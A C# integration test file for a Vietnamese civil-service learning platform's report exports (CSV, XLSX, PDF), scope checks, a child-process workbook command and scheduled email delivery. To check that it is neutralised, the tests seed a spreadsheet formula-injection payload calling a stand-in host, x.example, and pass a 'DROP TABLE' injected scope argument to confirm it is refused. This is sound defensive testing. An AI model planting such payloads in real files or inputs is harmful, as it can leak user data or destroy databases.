using System.Globalization;
using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Learning.Courses;
using Learning.Courses.Data;
using Learning.Courses.Services;
using Learning.Data;
using Learning.Data.Jobs;
using Learning.IntegrationTests.Certificates;
using Learning.IntegrationTests.Infrastructure;
using Learning.IntegrationTests.Media;
using Learning.IntegrationTests.Notifications;
using Learning.IntegrationTests.Security;
using Learning.Modularity;
using Learning.Organization.Data;
using Learning.Reports.Data;
using Learning.Organization;
using Learning.Reports.Jobs;
using Learning.Reports.Services.Completion;
using Learning.Reports.Services.Exports;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.VisualBasic.FileIO;
using MimeKit;
using static Learning.IntegrationTests.Certificates.ReadinessFixtures;

namespace Learning.IntegrationTests.Reports;

/// <summary>
/// Issue 14, exports and scheduled delivery: the completion report downloaded as CSV, XLSX and PDF by managers of a commune and of
/// the province (read back with a CSV parser, the Open XML SDK and pdftotext), scope and bad input; a subscription delivered once
/// per period through the real SMTP path with the workbook attached, an empty report skipped.
/// </summary>
public sealed class ExportTests
{
    private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")";
    private const string FormulaCadre = "tran.huu.luc.nhatrang@example.vn";
    private const string Course = "chu-ky-so-cong-vu";

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Export_CsvXlsxPdf_CommuneManagerGetsOnlyTheirCommune_VietnameseIntact_FormulasNeutralised_BadInputRefused(DatabaseProvider provider)
    {
        await using var site = await TestSite.StartAsync(provider);
        await SeedAsync(site);
        var camRanh = await site.WithDbAsync(db => db.Set<OrgUnit>().Where(u => u.Code == "KH-CAMRANH").Select(u => new { u.Id, u.Path }).SingleAsync());
        var courseId = await site.WithDbAsync(db => db.Set<Course>().Where(c => c.Slug == Course).Select(c => c.Id).SingleAsync());

        using var commune = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);
        using var province = await site.SignedInAsync(MatrixSite.ManagerProvinceEmail);

        // CSV: BOM, parsed by an RFC 4180 reader; the commune's cadres only, the formula neutralised, Vietnamese intact. The file
        // and the completion (seeded on the wall clock) carry today's date in Vietnam, which is not the UTC date after 17:00 UTC.
        var today = LocalTime.ToLocal(DateTime.UtcNow).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
        using (var response = await commune.Http.GetAsync($"/Admin/Reports/Export?format=csv&course={courseId}"))
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
            var disposition = response.Content.Headers.ContentDisposition!;
            Assert.Equal($"bao-cao-tien-do-boi-duong-{today}.csv", disposition.FileName?.Trim('"'));
            Assert.Equal($"Báo cáo tiến độ bồi dưỡng {today}.csv", disposition.FileNameStar);
            var bytes = await response.Content.ReadAsByteArrayAsync();
            Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
            var rows = ParseCsv(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
            Assert.Equal("Họ và tên", rows[0][1]);
            var names = rows.Skip(1).Select(r => r[1]).ToList();
            Assert.Contains(NhaTrangCadreName, names);
            Assert.Contains("'" + Formula, names);
            Assert.DoesNotContain(rows.Skip(1), r => r[2] == CamRanhCadre);
            Assert.All(rows.Skip(1), r => Assert.Equal(("Khánh Hòa", "Nha Trang"), (r[4], r[5])));
            Assert.All(rows.Skip(1).SelectMany(r => r), f => Assert.False(f.Length > 0 && f[0] is '=' or '+' or '@' or '\t' or '\r', f));
            var diep = rows.Single(r => r[1] == NhaTrangCadreName);
            Assert.Equal("Hoàn thành", diep[8]);
            Assert.Equal(today, diep[13]);
        }

        // The province manager's CSV holds Cam Ranh too: the scope is what keeps it out above.
        var provinceCsv = await DownloadAsync(province, $"/Admin/Reports/Export?format=csv&course={courseId}");
        Assert.Contains(ParseCsv(Encoding.UTF8.GetString(provinceCsv.Body, 3, provinceCsv.Body.Length - 3)), r => r[2] == CamRanhCadre);

        // XLSX, opened with the Open XML SDK: the formula is text, Cam Ranh absent, a summary sheet.
        var xlsx = await DownloadAsync(commune, $"/Admin/Reports/Export?format=xlsx&course={courseId}");
        Assert.True(xlsx.Status == HttpStatusCode.OK, $"{xlsx.Status}: {Encoding.UTF8.GetString(xlsx.Body)}");
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.ContentType);
        var sheets = ReadWorkbook(xlsx.Body);
        Assert.Equal(["Chi tiết cán bộ", "Tổng hợp"], sheets.Keys);
        var cadres = sheets["Chi tiết cán bộ"];
        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == "'" + Formula);
        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
        Assert.DoesNotContain(cadres, r => r.GetValueOrDefault("C") == CamRanhCadre);
        Assert.DoesNotContain(sheets["Tổng hợp"], r => r.Values.Any(v => v.Contains("Cam Ranh", StringComparison.Ordinal)));

        // PDF summary through pdftotext; a PNG to look at.
        var pdf = await DownloadAsync(commune, $"/Admin/Reports/Export?format=pdf&course={courseId}");
        Assert.True(pdf.Status == HttpStatusCode.OK, $"{pdf.Status}: {Encoding.UTF8.GetString(pdf.Body)}");
        Assert.Equal("application/pdf", pdf.ContentType);
        var text = await PdfTools.PdftotextAsync(pdf.Body);
        Assert.Contains("Báo cáo tiến độ bồi dưỡng: Chữ ký số", text, StringComparison.Ordinal);
        Assert.Contains("Nha Trang", text, StringComparison.Ordinal);
        Assert.Contains("Tỉ lệ hoàn thành theo đơn vị", text, StringComparison.Ordinal);
        Assert.Contains("Số lượt hoàn thành mỗi tuần (12 tuần gần nhất)", text, StringComparison.Ordinal);
        Assert.Contains("Phễu sẵn sàng ký số: mọi cán bộ của", text, StringComparison.Ordinal);

        // The funnel counts the commune's cadres as the readiness page does: its first stage is every cadre of the commune.
        var nhaTrang = await site.WithDbAsync(db => db.Set<OrgUnit>().Where(u => u.Code == "KH-NHATRANG").Select(u => u.Path).SingleAsync());
        int cadresInCommune;
        await using (var scope = site.Services.CreateAsyncScope())
        {
            cadresInCommune = (await scope.ServiceProvider.GetRequiredService<ICadreReadinessRows>().ListAsync(false, [nhaTrang])).Count;
        }

        Assert.True(cadresInCommune > 0);
        Assert.Contains($"Tổng số cán bộ: {cadresInCommune}", text, StringComparison.Ordinal);
        Assert.DoesNotContain("Cam Ranh", text, StringComparison.Ordinal);
        await PdfTools.PngAsync(pdf.Body, $"reports-export-pdf-{provider}");

        // Another commune by path or unit: not found. A reversed range, an unknown format: 400 with the reason in Vietnamese.
        Assert.Equal(HttpStatusCode.NotFound, (await commune.GetAsync($"/Admin/Reports/Export?format=csv&under={Uri.EscapeDataString(camRanh.Path)}")).Status);
        Assert.Equal(HttpStatusCode.NotFound, (await commune.GetAsync($"/Admin/Reports/Export?format=xlsx&unit={camRanh.Id}")).Status);
        Assert.Equal(HttpStatusCode.OK, (await province.GetAsync($"/Admin/Reports/Export?format=csv&under={Uri.EscapeDataString(camRanh.Path)}")).Status);
        var reversed = await commune.GetAsync("/Admin/Reports/Export?format=csv&dueFrom=2026-12-31&dueTo=2026-12-01");
        Assert.Equal(HttpStatusCode.BadRequest, reversed.Status);
        Assert.StartsWith("Không thể xuất báo cáo:", reversed.Body, StringComparison.Ordinal);
        var format = await commune.GetAsync("/Admin/Reports/Export?format=docx");
        Assert.Equal((HttpStatusCode.BadRequest, "Định dạng xuất không hợp lệ: hãy chọn csv, xlsx hoặc pdf."), (format.Status, format.Body));

        // A cadre (no Reports.Export) is refused; each export is audited with who and what.
        using var cadre = await site.SignedInAsync(NhaTrangCadre);
        await cadre.AssertForbiddenAsync("/Admin/Reports/Export?format=csv");
        var audit = await site.WithDbAsync(db => db.AuditEntries.Where(a => a.Action == "reports.exported").Select(a => new { a.UserName, a.Details }).ToListAsync());
        Assert.Equal(3, audit.Count(a => a.UserName == MatrixSite.ManagerCommuneEmail)); // csv, xlsx, pdf: refused requests export nothing
        Assert.Contains(audit, a => a.UserName == MatrixSite.ManagerCommuneEmail && a.Details == $"format=xlsx&course={courseId}");
    }

    /// <summary>
    /// ADR-047: a province's workbook is written by a process of its own (the host started again as <c>process
    /// reports.completion-xlsx</c>, a real child process on the same database), a commune's in the node; the file the province
    /// manager downloads holds exactly the cells the node writes for that scope, nothing of another province; the command keeps
    /// to the scope it is given, refuses bad arguments with exit code 2 and no file, and a cancelled run is stopped.
    /// </summary>
    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task AProvincesWorkbook_IsWrittenByAProcessOfItsOwn_WithTheNodesCells_InTheScopeItIsGiven(DatabaseProvider provider)
    {
        // The site's clock is two months ahead of the machine's, and Lực's enrolment falls due in between: overdue in the node's
        // time, not yet in the machine's. The child must count it as the node does (it is given the node's time).
        var runs = new RecordedRuns();
        var clock = new ManualClock { Now = DateTimeOffset.UtcNow.AddDays(60) };
        await using var site = await TestSite.StartAsync(provider, services: s => s
            .AddSingleton<TimeProvider>(clock)
            .AddSingleton<IHostProcesses>(sp => new RecordingProcesses(sp, runs)));
        await SeedAsync(site);
        var courseId = await site.WithDbAsync(db => db.Set<Course>().Where(c => c.Slug == Course).Select(c => c.Id).SingleAsync());
        var luc = await UserIdAsync(site, FormulaCadre);
        await site.WithDbAsync(async db =>
        {
            var enrolment = await db.Set<Enrollment>().SingleAsync(e => e.UserId == luc && e.CourseId == courseId);
            enrolment.DueUtc = DateTime.UtcNow.AddDays(30);
            return await db.SaveChangesAsync();
        });
        var units = await site.WithDbAsync(db => db.Set<OrgUnit>().Where(u => u.Code == "KH" || u.Code == "KH-NHATRANG").ToDictionaryAsync(u => u.Code, u => u.Path));
        using var province = await site.SignedInAsync(MatrixSite.ManagerProvinceEmail);
        using var commune = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);

        // The province manager's workbook comes from a child process: one run, succeeded, its rows those of the sheet.
        var xlsx = await DownloadAsync(province, $"/Admin/Reports/Export?format=xlsx&course={courseId}");
        Assert.True(xlsx.Status == HttpStatusCode.OK, $"{xlsx.Status}: {Encoding.UTF8.GetString(xlsx.Body)} {string.Join(" | ", site.ServerErrors)}");
        var run = Assert.Single(runs.Results);
        Assert.True(run.Succeeded, run.Error);
        var sheets = ReadWorkbook(xlsx.Body);
        var cadres = sheets["Chi tiết cán bộ"];
        Assert.Matches($@"^rows={cadres.Count} seconds=[0-9.]+ peakMB=[0-9]+\s*$", run.Output);
        Assert.Contains(cadres, r => r["C"] == CamRanhCadre);
        Assert.Contains(cadres, r => r["B"] == NhaTrangCadreName);
        Assert.Contains(cadres, r => r["B"] == "'" + Formula && r["I"].EndsWith(" – quá hạn", StringComparison.Ordinal));
        Assert.All(cadres, r => Assert.Equal("Khánh Hòa", r["E"]));

        // The same cells as the node writes for the province's scope and that filter, sheet by sheet, row by row.
        var filter = ReportFilter.Parse($"course={courseId}");
        var provinceScope = new OrgScope(false, [units["KH"]]);
        Assert.True(Separate(site, provinceScope, filter));
        Assert.False(Separate(site, new OrgScope(false, [units["KH-NHATRANG"]]), filter));
        var inNode = ReadWorkbook(await WriteInNodeAsync(site, provinceScope, filter));
        Assert.Equal(inNode.Keys, sheets.Keys);
        foreach (var (name, rows) in inNode)
        {
            Assert.Equal(rows.Count, sheets[name].Count);
            for (var i = 0; i < rows.Count; i++)
            {
                Assert.Equal(rows[i], sheets[name][i]);
            }
        }

        // The commune manager's workbook is written in the node: no process started.
        Assert.Equal(HttpStatusCode.OK, (await DownloadAsync(commune, $"/Admin/Reports/Export?format=xlsx&course={courseId}")).Status);
        Assert.Single(runs.Results);

        // The province's training hours workbook goes the same way, with the node's cells.
        var year = DateTime.UtcNow.Year;
        var hoursXlsx = await DownloadAsync(province, $"/Admin/Reports/Hours/Export?format=xlsx&year={year}");
        Assert.True(hoursXlsx.Status == HttpStatusCode.OK, $"{hoursXlsx.Status}: {Encoding.UTF8.GetString(hoursXlsx.Body)} {string.Join(" | ", site.ServerErrors)}");
        Assert.Equal(2, runs.Results.Count);
        Assert.True(runs.Results.Last().Succeeded, runs.Results.Last().Error);
        var hoursSheet = Assert.Single(ReadWorkbook(hoursXlsx.Body)).Value;
        Assert.Contains(hoursSheet, r => r["B"] == NhaTrangCadreName);
        byte[] hoursInNode;
        await using (var services = site.Services.CreateAsyncScope())
        using (var output = new MemoryStream())
        {
            await services.ServiceProvider.GetRequiredService<HoursExport>().WriteAsync(output, ExportFormat.Xlsx, provinceScope, new HoursFilter(year));
            hoursInNode = output.ToArray();
        }

        Assert.Equal(Assert.Single(ReadWorkbook(hoursInNode)).Value, hoursSheet);

        // What the child is given: the node's database, clock and environment; on PostgreSQL its sessions without the JIT.
        var start = ActivatorUtilities.CreateInstance<Learning.Web.Hosting.HostProcesses>(site.Services).StartInfo(CompletionWorkbookCommand.CommandName, []);
        Assert.Equal(provider.ToString(), start.Environment["Learning__Database__Provider"]);
        Assert.Equal(clock.Now.ToString("O", CultureInfo.InvariantCulture), start.Environment["LEARNING_PROCESS_CLOCK"]);
        Assert.Equal("Testing", start.Environment["DOTNET_ENVIRONMENT"]);
        Assert.Equal("0", start.Environment["DOTNET_gcServer"]);
        var connection = start.Environment["Learning__Database__ConnectionString"]!;
        Assert.Equal(provider == DatabaseProvider.PostgreSql, connection.Contains("-c jit=off", StringComparison.Ordinal));
        Assert.Equal(site.ConnectionString, provider == DatabaseProvider.PostgreSql
            ? new Npgsql.NpgsqlConnectionStringBuilder(connection) { Options = null }.ConnectionString
            : connection);

        // The command itself, given the commune's scope: Nha Trang's rows only, in English when asked.
        var processes = site.Services.GetRequiredService<IHostProcesses>();
        var folder = Directory.CreateTempSubdirectory("learning-workbook-").FullName;
        try
        {
            var path = Path.Combine(folder, "commune.xlsx");
            var communeRun = await processes.RunAsync(CompletionWorkbookCommand.CommandName,
                WorkbookCommand.Arguments(path, new OrgScope(false, [units["KH-NHATRANG"]]), filter.ToQueryString(), new CultureInfo("en")));
            Assert.True(communeRun.Succeeded, communeRun.Error);
            var english = ReadWorkbook(await File.ReadAllBytesAsync(path));
            Assert.Equal(["Cadres", "Summary"], english.Keys);
            Assert.NotEmpty(english["Cadres"]);
            Assert.All(english["Cadres"], r => Assert.Equal(("Khánh Hòa", "Nha Trang"), (r["E"], r["F"])));
            Assert.DoesNotContain(english["Cadres"], r => r["C"] == CamRanhCadre);

            // Bad arguments: exit code 2, the reason on standard error, no file. An unknown command: 2 as well.
            var bad = Path.Combine(folder, "bad.xlsx");
            var refused = await processes.RunAsync(CompletionWorkbookCommand.CommandName, ["--out", bad, "--culture", "vi", "--scope", "KH; DROP TABLE org_unit"]);
            Assert.Equal(2, refused.ExitCode);
            Assert.Contains("--scope", refused.Error, StringComparison.Ordinal);
            var reversed = await processes.RunAsync(CompletionWorkbookCommand.CommandName, ["--out", bad, "--culture", "vi", "--scope", "*", "--filter", "dueFrom=2026-12-31&dueTo=2026-12-01"]);
            Assert.Equal(2, reversed.ExitCode);
            Assert.Contains("Không thể xuất báo cáo:", reversed.Error, StringComparison.Ordinal);
            Assert.False(File.Exists(bad));
            Assert.Equal(2, (await processes.RunAsync("reports.no-such-command", [])).ExitCode);

            // Cancelled while it runs: the caller gets the cancellation at once, not the workbook.
            using var soon = new CancellationTokenSource(TimeSpan.FromMilliseconds(200));
            var watch = System.Diagnostics.Stopwatch.StartNew();
            await Assert.ThrowsAnyAsync<OperationCanceledException>(() => processes.RunAsync(CompletionWorkbookCommand.CommandName,
                WorkbookCommand.Arguments(Path.Combine(folder, "cancelled.xlsx"), OrgScope.Everything, filter.ToQueryString(), new CultureInfo("vi")), soon.Token));
            Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), watch.Elapsed.ToString());
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static async Task<byte[]> WriteInNodeAsync(TestSite site, OrgScope scope, ReportFilter filter)
    {
        await using var services = site.Services.CreateAsyncScope();
        using var output = new MemoryStream();
        await services.ServiceProvider.GetRequiredService<CompletionExport>().WriteXlsxAsync(output, scope, filter);
        return output.ToArray();
    }

    /// <summary>The node's decision, asked of its own service.</summary>
    private static bool Separate(TestSite site, OrgScope scope, ReportFilter filter)
    {
        using var services = site.Services.CreateScope();
        return services.ServiceProvider.GetRequiredService<ReportWorkbooks>().Separate(scope, filter);
    }

    private sealed class RecordedRuns
    {
        public System.Collections.Concurrent.ConcurrentQueue<HostProcessResult> Results { get; } = new();
    }

    /// <summary>The host's own <see cref="IHostProcesses"/> (real child processes), with each run's result kept for the test.</summary>
    private sealed class RecordingProcesses(IServiceProvider services, RecordedRuns runs) : IHostProcesses
    {
        private readonly Learning.Web.Hosting.HostProcesses inner = ActivatorUtilities.CreateInstance<Learning.Web.Hosting.HostProcesses>(services);

        public async Task<HostProcessResult> RunAsync(string command, IReadOnlyList<string> args, CancellationToken cancellationToken = default)
        {
            var result = await inner.RunAsync(command, args, cancellationToken);
            runs.Results.Enqueue(result);
            return result;
        }
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Subscription_DeliveredOncePerPeriodBySmtp_AsTheRecipientSeesIt_AttachmentOpens_EmptySkipped(DatabaseProvider provider)
    {
        await using var sink = await SmtpSink.StartAsync();
        var clock = new ManualClock { Now = new DateTimeOffset(2026, 12, 2, 3, 0, 0, TimeSpan.Zero) };
        await using var site = await TestSite.StartAsync(provider, settings: sink.Settings(new() { ["Learning:Notifications:HoldSeconds"] = "0" }), services: s => s.AddSingleton<TimeProvider>(clock));
        await SeedAsync(site);
        var managerId = await UserIdAsync(site, MatrixSite.ManagerCommuneEmail);
        var provinceId = await UserIdAsync(site, MatrixSite.ManagerProvinceEmail);
        var (full, empty, others) = await site.WithDbAsync(async db =>
        {
            var reports = new[]
            {
                new SavedReport { OwnerUserId = managerId, Name = "Tiến độ: Phường Nha Trang", Kind = SavedReportKinds.Completion, Query = "", CreatedUtc = clock.Now.UtcDateTime },
                new SavedReport { OwnerUserId = managerId, Name = "Không ai: chức vụ không có", Kind = SavedReportKinds.Completion, Query = "position=Kh%C3%B4ng%20c%C3%B3", CreatedUtc = clock.Now.UtcDateTime },
                new SavedReport { OwnerUserId = provinceId, Name = "Của tỉnh", Kind = SavedReportKinds.Completion, Query = "", CreatedUtc = clock.Now.UtcDateTime },
            };
            db.AddRange(reports);
            await db.SaveChangesAsync();
            return (reports[0].Id, reports[1].Id, reports[2].Id);
        });

        using var manager = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);
        const string page = "/Admin/Reports/Subscriptions";
        var list = await manager.GetAsync(page);
        Assert.Contains("Tiến độ: Phường Nha Trang", list.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("Của tỉnh", list.Body, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{full}"), new("cadence", "Weekly")], page + "?handler=Subscribe")).Status);
        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{empty}"), new("cadence", "Monthly"), new("skipEmpty", "true")], page + "?handler=Subscribe")).Status);
        var bad = await manager.PostFormAsync(page, [new("report", $"{full}"), new("cadence", "Daily")], page + "?handler=Subscribe");
        Assert.Equal(HttpStatusCode.BadRequest, bad.Status);
        Assert.Contains("Tần suất không hợp lệ", bad.Body, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await manager.PostFormAsync(page, [new("report", $"{others}"), new("cadence", "Weekly")], page + "?handler=Subscribe")).Status);
        Assert.Equal(2, await site.WithDbAsync(db => db.Set<ReportSubscription>().CountAsync()));

        // The job runs twice (a second node, a retry): one message for the week, none for the empty report.
        await RunDeliveryAsync(site);
        await RunDeliveryAsync(site);
        var message = Assert.Single(await ReportMailsAsync(sink, 2)); // waits for a second, which must not come
        Assert.Contains("Tiến độ: Phường Nha Trang", message.Subject, StringComparison.Ordinal);
        Assert.Contains("Tuần 49/2026", message.TextBody, StringComparison.Ordinal);
        var attachment = Assert.IsType<MimePart>(Assert.Single(message.Attachments));
        Assert.Equal("Tiến độ  Phường Nha Trang 2026-W49.xlsx", attachment.FileName);
        using var content = new MemoryStream();
        await attachment.Content!.DecodeToAsync(content);
        var cadres = ReadWorkbook(content.ToArray())["Chi tiết cán bộ"];
        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == "'" + Formula);
        Assert.DoesNotContain(cadres, r => r.GetValueOrDefault("C") == CamRanhCadre);
        var served = await site.WithDbAsync(db => db.Set<ReportSubscription>().AsNoTracking().OrderBy(s => s.Id).ToListAsync());
        Assert.Equal("2026-W49", served[0].LastSentPeriod);
        Assert.True(served[0].LastRowCount >= 2);
        Assert.Equal(("2026-12", 0), (served[1].LastSentPeriod, served[1].LastRowCount));

        // The next week: sent again, as the recipient sees it NOW (moved to Cam Ranh: Cam Ranh's cadres, not Nha Trang's).
        await site.WithDbAsync(async db =>
        {
            var assignment = await db.Set<ScopeAssignment>().SingleAsync(a => a.UserId == managerId);
            assignment.OrgUnitId = await db.Set<OrgUnit>().Where(u => u.Code == "KH-CAMRANH").Select(u => u.Id).SingleAsync();
            return await db.SaveChangesAsync();
        });
        clock.Advance(TimeSpan.FromDays(7));
        await RunDeliveryAsync(site);
        var messages = await ReportMailsAsync(sink, 2);
        Assert.Equal(2, messages.Count);
        var second = messages.Single(m => (m.TextBody ?? "").Contains("Tuần 50/2026", StringComparison.Ordinal));
        using var secondContent = new MemoryStream();
        await ((MimePart)second.Attachments.Single()).Content!.DecodeToAsync(secondContent);
        var now = ReadWorkbook(secondContent.ToArray())["Chi tiết cán bộ"];
        Assert.Contains(now, r => r.GetValueOrDefault("C") == CamRanhCadre);
        Assert.DoesNotContain(now, r => r.GetValueOrDefault("B") == NhaTrangCadreName);

        // The Manager role taken away (the scope left behind): that week's report is not sent; given back, the next one is.
        var managerRole = await site.WithDbAsync(db => db.Roles.Where(r => r.Name == LearningRoles.Manager).Select(r => r.Id).SingleAsync());
        await site.WithDbAsync(db => db.UserRoles.Where(ur => ur.UserId == managerId && ur.RoleId == managerRole).ExecuteDeleteAsync());
        clock.Advance(TimeSpan.FromDays(7));
        await RunDeliveryAsync(site);
        Assert.Equal(2, (await ReportMailsAsync(sink, 3)).Count);
        await site.WithDbAsync(db =>
        {
            db.UserRoles.Add(new() { UserId = managerId, RoleId = managerRole });
            return db.SaveChangesAsync();
        });
        clock.Advance(TimeSpan.FromDays(7));
        await RunDeliveryAsync(site);
        Assert.Equal(3, (await ReportMailsAsync(sink, 3)).Count);

        // Unsubscribed: nothing more.
        using var later = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail); // weeks on, the first sign-in has expired
        Assert.Equal(HttpStatusCode.Redirect, (await later.PostFormAsync(page, [new("report", $"{full}")], page + "?handler=Unsubscribe")).Status);
        clock.Advance(TimeSpan.FromDays(7));
        await RunDeliveryAsync(site);
        Assert.Equal(3, (await ReportMailsAsync(sink, 4)).Count);
        var audit = await site.WithDbAsync(db => db.AuditEntries.Where(a => a.Action.StartsWith("reports.")).Select(a => a.Action).ToListAsync());
        Assert.Equal(2, audit.Count(a => a == "reports.subscribed"));
        Assert.Equal(1, audit.Count(a => a == "reports.unsubscribed"));
    }

    /// <summary>A saved training-hours report is delivered too: for the year of the delivery, as its recipient sees it, with the hours workbook.</summary>
    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task HoursSubscription_DeliversThisYearsHoursWorkbook_InTheRecipientsScope(DatabaseProvider provider)
    {
        await using var sink = await SmtpSink.StartAsync();
        var clock = new ManualClock { Now = new DateTimeOffset(2026, 12, 2, 3, 0, 0, TimeSpan.Zero) };
        await using var site = await TestSite.StartAsync(provider, settings: sink.Settings(new() { ["Learning:Notifications:HoldSeconds"] = "0" }), services: s => s.AddSingleton<TimeProvider>(clock));
        await SeedAsync(site);
        var managerId = await UserIdAsync(site, MatrixSite.ManagerCommuneEmail);
        var saved = await site.WithDbAsync(async db =>
        {
            var report = new SavedReport { OwnerUserId = managerId, Name = "Giờ bồi dưỡng: Nha Trang", Kind = SavedReportKinds.Hours, Query = "year=2025", CreatedUtc = clock.Now.UtcDateTime };
            db.Add(report);
            await db.SaveChangesAsync();
            return report.Id;
        });

        using var manager = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);
        const string page = "/Admin/Reports/Subscriptions";
        Assert.Contains("href=\"/Admin/Reports/Hours?year=2025\"", (await manager.GetAsync(page)).Body, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{saved}"), new("cadence", "Monthly")], page + "?handler=Subscribe")).Status);
        await RunDeliveryAsync(site);
        var message = Assert.Single(await ReportMailsAsync(sink, 1));
        Assert.Contains("Giờ bồi dưỡng: Nha Trang", message.Subject, StringComparison.Ordinal);
        using var content = new MemoryStream();
        await ((MimePart)message.Attachments.Single()).Content!.DecodeToAsync(content);
        var sheets = ReadWorkbook(content.ToArray());
        var rows = sheets["Giờ bồi dưỡng 2026"]; // the year of the delivery, not the one it was saved with
        Assert.Contains(rows, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
        var camRanhName = await site.WithDbAsync(db => db.Set<Cadre>().Where(c => c.Email == CamRanhCadre).Select(c => c.FullName).SingleAsync());
        Assert.DoesNotContain(rows, r => r.GetValueOrDefault("B") == camRanhName);
    }

    /// <summary>Managers; Diệp (Nha Trang) completed the course, Kim Oanh (Cam Ranh) too; Lực (Nha Trang), renamed to a formula, enrolled only.</summary>
    private static async Task SeedAsync(TestSite site)
    {
        await MatrixSite.CreateStaffAsync(site);
        await CompleteCourseAsync(site, await UserIdAsync(site, NhaTrangCadre), Course);
        await CompleteCourseAsync(site, await UserIdAsync(site, CamRanhCadre), Course);
        var luc = await UserIdAsync(site, FormulaCadre);
        var course = await site.WithDbAsync(db => db.Set<Course>().AsNoTracking().SingleAsync(c => c.Slug == Course));
        await site.WithServiceAsync<EnrollmentService, EnrolOutcome>(s => s.SelfEnrolAsync(luc, course));
        await site.WithDbAsync(async db =>
        {
            var cadre = await db.Set<Cadre>().SingleAsync(c => c.Email == FormulaCadre);
            cadre.FullName = Formula;
            return await db.SaveChangesAsync();
        });
    }

    private static async Task RunDeliveryAsync(TestSite site)
    {
        await site.WithServiceAsync<IJobQueue, long>(q => q.EnqueueAsync(ReportDeliveryJob.JobKind, new { }));
        await RunJobsAsync(site);
    }

    /// <summary>The scheduled-report messages the sink holds, once <paramref name="count"/> arrived or a few seconds passed (the
    /// site sends its other notifications too).</summary>
    private static async Task<List<MimeMessage>> ReportMailsAsync(SmtpSink sink, int count)
    {
        var waited = System.Diagnostics.Stopwatch.StartNew();
        while (true)
        {
            var found = sink.Messages().Where(m => m.Subject?.StartsWith("Báo cáo định kỳ", StringComparison.Ordinal) == true).ToList();
            if (found.Count >= count || waited.Elapsed > TimeSpan.FromSeconds(5))
            {
                return found;
            }

            await Task.Delay(100);
        }
    }

    private static List<string[]> ParseCsv(string text)
    {
        using var parser = new TextFieldParser(new StringReader(text)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var rows = new List<string[]>();
        while (!parser.EndOfData)
        {
            rows.Add(parser.ReadFields()!);
        }

        return rows;
    }

    /// <summary>Each sheet's rows as column letter → text (inline strings, or the number as written); asserts no cell holds a formula.</summary>
    private static Dictionary<string, List<Dictionary<string, string>>> ReadWorkbook(byte[] bytes)
    {
        using var stream = new MemoryStream(bytes);
        using var document = SpreadsheetDocument.Open(stream, false);
        var workbook = document.WorkbookPart!;
        var result = new Dictionary<string, List<Dictionary<string, string>>>();
        foreach (var sheet in workbook.Workbook.Sheets!.Elements<Sheet>())
        {
            var part = (WorksheetPart)workbook.GetPartById(sheet.Id!);
            Assert.Empty(part.Worksheet.Descendants<CellFormula>());
            result[sheet.Name!.Value!] = part.Worksheet.Descendants<Row>().Skip(1).Select(row => row.Elements<Cell>().ToDictionary(
                c => new string(c.CellReference!.Value!.TakeWhile(char.IsAsciiLetter).ToArray()),
                c => c.DataType?.Value == CellValues.InlineString ? c.InlineString!.InnerText : c.CellValue?.Text ?? "")).ToList();
        }

        return result;
    }
}
